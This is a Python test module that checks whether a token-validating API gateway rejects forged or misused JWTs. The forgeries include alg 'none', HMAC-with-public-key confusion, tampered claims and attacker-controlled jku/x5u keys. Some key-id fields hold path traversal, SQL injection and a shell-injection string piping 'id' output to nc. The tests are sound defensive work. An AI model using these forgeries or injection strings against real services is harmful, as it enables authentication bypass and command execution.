"""The attack matrix: forged and misused tokens against the real gateway and the real IdP.

Every case is one real HTTP request to the gateway (raw ``http.client``, so
duplicate headers and odd schemes reach the server untouched). Each asserts the
status, the RFC 6750 challenge, and that exactly the expected
``gateway_token_validations_total{result}`` series moved by one and no other.
Tokens signed "with the IdP's key" use the IdP's real private key from its
keys file: they model an IdP bug or a partly trusted signer, so the claim
checks (iss/aud/exp/typ …) are exercised behind a valid signature.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import secrets
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from gateway_fixtures import (
    Lab,
    b64,
    claims_for,
    forge,
    scrape,
    segment,
    threaded_lab,
    unverified_claims,
    validations,
    wait_for,
)
from joserfc import jwk

pytestmark = [pytest.mark.lab, pytest.mark.timeout(120)]


class AttackerServer:
    """Serves an attacker JWKS and records every request, so tests can assert silence."""

    def __init__(self, jwks: dict):
        self.hits: list[str] = []
        body = json.dumps(jwks).encode()
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server API
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(timeout=5)


@dataclass
class Ctx:
    lab: Lab
    key: jwk.Key  # the IdP's real private signing key
    alg: str
    kid: str
    attacker_key: jwk.Key
    attacker: AttackerServer

    def header(self, **overrides) -> dict:
        header = {"alg": self.alg, "typ": "at+jwt", "kid": self.kid}
        header.update(overrides)
        return {k: v for k, v in header.items() if v is not None}

    def signed(self, header: dict | None = None, **claims) -> str:
        """Signed with the IdP's real key (so only the claim/header checks can reject it)."""
        return forge(header or self.header(), claims_for(self.lab, **claims), self.key, self.alg)

    def issued(self, client_id: str = "loadtest", field: str = "access_token") -> str:
        return self.lab.token(client_id)[field]


@pytest.fixture(scope="module")
def ctx(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ctx]:
    directory: Path = tmp_path_factory.mktemp("gw-attacks")
    attacker_key = jwk.generate_key("EC", "P-256", auto_kid=True)
    with threaded_lab(directory, jwks_refresh_cooldown=30) as lab:
        key, alg = lab.signing_key()
        attacker = AttackerServer({"keys": [attacker_key.as_dict(private=False)]})
        try:
            yield Ctx(lab, key, alg, str(key.kid), attacker_key, attacker)
        finally:
            attacker.stop()
            assert attacker.hits == [], f"gateway contacted the attacker: {attacker.hits}"


Request = tuple[str, list[tuple[str, str]]]  # path, headers


def bearer(token: str, scheme: str = "Bearer") -> Request:
    return "/api/resource", [("Authorization", f"{scheme} {token}")]


def send(url: str, request: Request) -> tuple[int, dict[str, str], bytes]:
    path, headers = request
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=10)
    try:
        conn.putrequest("GET", path, skip_accept_encoding=True)
        for name, value in headers:
            conn.putheader(name, value)
        conn.endheaders()
        response = conn.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        conn.close()


def _hs(ctx: Ctx, secret: bytes, alg: str = "HS256") -> str:
    digest = {"HS256": hashlib.sha256, "HS512": hashlib.sha512}[alg]
    header = ctx.header(alg=alg)
    signing_input = f"{segment(header)}.{segment(claims_for(ctx.lab))}"
    mac = hmac.new(secret, signing_input.encode(), digest).digest()
    return f"{signing_input}.{b64(mac)}"


def _public_pem(ctx: Ctx) -> bytes:
    return ctx.key.as_pem(private=False)


def _public_jwk_bytes(ctx: Ctx) -> bytes:
    return json.dumps(ctx.key.as_dict(private=False)).encode()


def _tamper(token: str, **changes) -> str:
    header, _payload, signature = token.split(".")
    claims = unverified_claims(token)
    claims.update(changes)
    return f"{header}.{segment(claims)}.{signature}"


def _revoked(ctx: Ctx) -> str:
    token = ctx.issued()
    ctx.lab.revoke(token)
    gateway = ctx.lab.gateway_app.state.gateway
    jti = json.loads(_payload(token))["jti"]
    wait_for(lambda: gateway.revocations.is_revoked(jti), 3, "revocation not propagated")
    return token


def _payload(token: str) -> bytes:
    part = token.split(".")[1]
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def _attacker_signed(ctx: Ctx, **header) -> str:
    h = {"alg": "ES256", "typ": "at+jwt", **header}
    return forge(h, claims_for(ctx.lab), ctx.attacker_key, "ES256")


def _dup_payload(ctx: Ctx) -> str:
    claims = json.dumps(claims_for(ctx.lab))
    raw = claims[:-1] + ',"aud":"api://other"}'
    return forge(ctx.header(), raw, ctx.key, ctx.alg)


def _dup_header(ctx: Ctx) -> str:
    raw = f'{{"alg":"none","typ":"at+jwt","kid":"{ctx.kid}","alg":"{ctx.alg}"}}'
    return forge(raw, claims_for(ctx.lab), ctx.key, ctx.alg)


def _id_token(ctx: Ctx) -> str:
    now = int(time.time())
    claims = {
        "iss": ctx.lab.idp_url,
        "sub": "alice",
        "aud": "loadtest",
        "iat": now,
        "exp": now + 300,
        "nonce": "n-0S6_WzA2Mj",
        "auth_time": now,
    }
    return forge(ctx.header(typ="JWT"), claims, ctx.key, ctx.alg)


def _oversized(ctx: Ctx) -> str:
    return ctx.signed(padding="A" * 9000)


def _key_confusion(ctx: Ctx) -> str:
    """Header says RS256 while the kid is the IdP's EC key: kty mismatch, never verified."""
    other = "RS256" if ctx.alg != "RS256" else "ES256"
    return forge(ctx.header(alg=other), claims_for(ctx.lab), ctx.key, ctx.alg)


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Ctx], Request]
    result: str
    status: int = 401


def tok(result: str, make: Callable[[Ctx], str], name: str, scheme: str = "Bearer") -> Attack:
    return Attack(name, lambda c: bearer(make(c), scheme), result)


NONE_CASES = [
    tok("disallowed_alg", lambda c, a=alg: forge(c.header(alg=a), claims_for(c.lab)), f"alg-{alg}")
    for alg in ("none", "None", "NONE", "nOnE")
]

ATTACKS = [
    *NONE_CASES,
    tok("disallowed_alg", lambda c: _hs(c, _public_pem(c)), "hs256-public-key-pem"),
    tok("disallowed_alg", lambda c: _hs(c, _public_jwk_bytes(c)), "hs256-public-key-jwk"),
    tok("disallowed_alg", lambda c: _hs(c, _public_pem(c), "HS512"), "hs512-public-key-pem"),
    tok(
        "disallowed_alg",
        lambda c: forge(c.header(alg="XS256"), claims_for(c.lab), signature=b"x" * 64),
        "unknown-alg",
    ),
    tok(
        "disallowed_alg",
        lambda c: forge(c.header(alg="ES256K"), claims_for(c.lab), signature=b"x" * 64),
        "alg-not-allowed",
    ),
    tok("bad_signature", _key_confusion, "alg-key-type-mismatch"),
    tok("bad_signature", lambda c: c.signed().rsplit(".", 1)[0] + ".", "empty-signature"),
    tok("malformed", lambda c: c.signed().rsplit(".", 1)[0], "stripped-signature-segment"),
    tok("bad_signature", lambda c: _tamper(c.issued(), scope="admin api.write"), "tampered-scope"),
    tok("bad_signature", lambda c: _tamper(c.issued(), aud="api://other"), "tampered-aud"),
    tok(
        "bad_signature",
        lambda c: _tamper(c.issued(), exp=int(time.time()) + 86400 * 365),
        "tampered-exp",
    ),
    tok("bad_signature", lambda c: _attacker_signed(c, kid=c.kid), "attacker-key-same-kid"),
    tok(
        "bad_signature",
        lambda c: forge(
            {"alg": "ES256", "typ": "at+jwt", "kid": c.kid},
            claims_for(c.lab, iss=c.attacker.url),
            c.attacker_key,
            "ES256",
        ),
        "attacker-issuer-same-kid",
    ),
    tok(
        "unknown_kid_unconfirmed",
        lambda c: _attacker_signed(c, kid=str(c.attacker_key.kid), jku=c.attacker.url + "/jwks"),
        "jku-attacker",
    ),
    tok(
        "unknown_kid_unconfirmed",
        lambda c: _attacker_signed(
            c, kid=str(c.attacker_key.kid), x5u=c.attacker.url + "/cert.pem"
        ),
        "x5u-attacker",
    ),
    tok(
        "bad_signature",
        lambda c: _attacker_signed(c, kid=c.kid, jwk=c.attacker_key.as_dict(private=False)),
        "embedded-jwk-attacker",
    ),
    tok(
        "unknown_kid_unconfirmed",
        lambda c: _attacker_signed(c, kid="../../etc/passwd"),
        "kid-path-traversal",
    ),
    tok(
        "unknown_kid_unconfirmed",
        lambda c: _attacker_signed(c, kid="' OR '1'='1' --"),
        "kid-sql-injection",
    ),
    tok(
        "unknown_kid_unconfirmed",
        lambda c: _attacker_signed(c, kid="$(touch /tmp/pwned); `id` | nc x 1"),
        "kid-command-injection",
    ),
    tok("malformed", lambda c: _attacker_signed(c, kid={"$ne": None}), "kid-not-a-string"),
    tok(
        "expired",
        lambda c: c.signed(iat=int(time.time()) - 4000, exp=int(time.time()) - 3600),
        "expired",
    ),
    tok("not_yet_valid", lambda c: c.signed(nbf=int(time.time()) + 600), "nbf-future"),
    tok(
        "not_yet_valid",
        lambda c: c.signed(iat=int(time.time()) + 600, exp=int(time.time()) + 900),
        "iat-future",
    ),
    tok("wrong_issuer", lambda c: c.signed(iss="https://evil.example"), "wrong-iss"),
    tok("wrong_audience", lambda c: c.issued("other-aud"), "wrong-aud-real-idp-token"),
    tok("wrong_audience", lambda c: c.signed(aud=["api://other", "api://x"]), "wrong-aud-list"),
    tok("malformed", lambda c: c.signed(exp=None), "missing-exp"),
    tok("malformed", lambda c: c.signed(exp="9999999999"), "exp-not-a-number"),
    tok("malformed", lambda c: c.signed(c.header(typ="JWT")), "typ-jwt"),
    tok("malformed", lambda c: c.signed(c.header(typ=None)), "typ-missing"),
    tok("malformed", _id_token, "id-token-shaped"),
    tok("revoked", _revoked, "revoked-jwt"),
    tok("inactive", lambda c: secrets.token_urlsafe(32), "unknown-opaque-token"),
    tok("malformed", lambda c: c.issued("loadtest", "refresh_token"), "refresh-token-as-access"),
    # over max_token_bytes: 431 before any parsing, outside every SLO
    Attack("oversized-token", lambda c: bearer(_oversized(c)), "too_large", 431),
    tok(
        "malformed",
        lambda c: f"{segment(b'not json')}.{segment(b'{}')}.{b64(b'sig')}",
        "non-json-header",
    ),
    tok(
        "malformed",
        lambda c: f"{segment(c.header())}.{segment(b'[1,2')}.{b64(b'sig')}",
        "non-json-payload",
    ),
    tok("malformed", lambda c: "eyJ+/~.eyJ+/~.c2ln", "non-base64url-segments"),
    Attack(
        "non-token68-characters",
        lambda c: bearer("eyJ!!!.eyJ***.c2ln"),
        "malformed",
        400,
    ),
    tok("malformed", lambda c: c.signed() + "==", "base64-padding"),
    tok(
        "malformed",
        lambda c: c.signed(c.header(crit=["exp-ext"], **{"exp-ext": 1})),
        "crit-unknown-extension",
    ),
    tok("malformed", _dup_payload, "duplicate-claims"),
    tok("malformed", _dup_header, "duplicate-header-alg"),
    tok("malformed", lambda c: c.signed() + ".AAAA.BBBB", "jwe-shaped-five-parts"),
    tok(
        "disallowed_alg",
        lambda c: forge(c.header(alg="none"), claims_for(c.lab)),
        "lowercase-scheme-alg-none",
        scheme="bearer",
    ),
    Attack(
        "query-string-token",
        lambda c: (f"/api/resource?access_token={c.issued()}", []),
        "malformed",
        400,
    ),
    Attack("scheme-colon", lambda c: bearer(c.issued(), "Bearer:"), "malformed", 400),
    Attack(
        "scheme-no-token",
        lambda c: ("/api/resource", [("Authorization", "Bearer")]),
        "malformed",
        400,
    ),
    Attack("scheme-double-space", lambda c: bearer(" " + c.issued()), "malformed", 400),
    Attack(
        "two-authorization-headers",
        lambda c: (
            "/api/resource",
            [("Authorization", f"Bearer {c.issued()}"), ("Authorization", f"Bearer {c.issued()}")],
        ),
        "malformed",
        400,
    ),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_rejected_and_counted(ctx: Ctx, attack: Attack) -> None:
    request = attack.build(ctx)
    before = validations(ctx.lab.gateway_url)
    status, headers, body = send(ctx.lab.gateway_url, request)
    after = validations(ctx.lab.gateway_url)

    assert status == attack.status, body
    challenge = headers.get("www-authenticate", "")
    assert challenge.startswith('Bearer realm="tokenslo"')
    expected_error = "invalid_token" if status == 401 else "invalid_request"  # 400, 431
    assert f'error="{expected_error}"' in challenge
    assert json.loads(body)["error"] == expected_error
    delta = {k: after[k] - before.get(k, 0.0) for k in after}
    assert delta[attack.result] == 1, delta
    assert sum(delta.values()) == 1, delta  # no other result moved


def test_attacker_server_was_never_contacted(ctx: Ctx) -> None:
    """jku/x5u/jwk headers above pointed at the attacker; the gateway must not follow them."""
    assert any(a.name == "jku-attacker" for a in ATTACKS)
    assert ctx.attacker.hits == []


def test_matrix_has_at_least_thirty_attacks() -> None:
    assert len(ATTACKS) >= 30


def test_error_description_never_echoes_token(ctx: Ctx) -> None:
    token = ctx.signed(iss="https://evil.example")
    status, headers, body = send(ctx.lab.gateway_url, bearer(token))
    assert status == 401
    for fragment in (token, token.split(".")[1][:20], "evil.example"):
        assert fragment not in headers["www-authenticate"]
        assert fragment.encode() not in body


def test_unknown_kid_flood_triggers_at_most_one_refresh(ctx: Ctx) -> None:
    url = ctx.lab.gateway_url

    def refreshes() -> float:
        samples = scrape(url).items()
        return sum(v for (n, _), v in samples if n == "gateway_jwks_refreshes_total")

    before = refreshes()
    for i in range(25):
        token = _attacker_signed(ctx, kid=f"random-kid-{i}-{secrets.token_hex(4)}")
        status, _, _ = send(url, bearer(token))
        assert status == 401
    assert refreshes() - before <= 1


# ---------------------------------------------------------------- positive controls


def test_valid_token_is_accepted(ctx: Ctx) -> None:
    before = validations(ctx.lab.gateway_url)
    status, _, body = send(ctx.lab.gateway_url, bearer(ctx.issued()))
    assert status == 200
    assert json.loads(body)["sub"] == "loadtest"
    assert validations(ctx.lab.gateway_url)["valid"] == before["valid"] + 1


def test_lowercase_scheme_is_accepted(ctx: Ctx) -> None:
    """RFC 7235 §2.1: the auth scheme is case-insensitive."""
    status, _, _ = send(ctx.lab.gateway_url, bearer(ctx.issued(), "bearer"))
    assert status == 200


def test_opaque_token_is_accepted_via_introspection(ctx: Ctx) -> None:
    token = ctx.issued("opaque-client")
    assert "." not in token
    status, _, body = send(ctx.lab.gateway_url, bearer(token))
    assert status == 200
    assert json.loads(body)["client_id"] == "opaque-client"


def test_token_just_past_exp_inside_leeway_is_accepted(ctx: Ctx) -> None:
    now = int(time.time())
    inside = ctx.signed(iat=now - 330, exp=now - 30)  # leeway is 60 s
    outside = ctx.signed(iat=now - 400, exp=now - 90)
    assert send(ctx.lab.gateway_url, bearer(inside))[0] == 200
    assert send(ctx.lab.gateway_url, bearer(outside))[0] == 401


def test_nbf_and_iat_slightly_ahead_inside_leeway_are_accepted(ctx: Ctx) -> None:
    now = int(time.time())
    token = ctx.signed(iat=now + 30, nbf=now + 30, exp=now + 300)
    assert send(ctx.lab.gateway_url, bearer(token))[0] == 200


def test_missing_authorization_gets_plain_challenge(ctx: Ctx) -> None:
    before = validations(ctx.lab.gateway_url)
    status, headers, _ = send(ctx.lab.gateway_url, ("/api/resource", []))
    assert status == 401
    assert headers["www-authenticate"] == 'Bearer realm="tokenslo"'  # RFC 6750 §3.1: no error
    assert validations(ctx.lab.gateway_url) == before
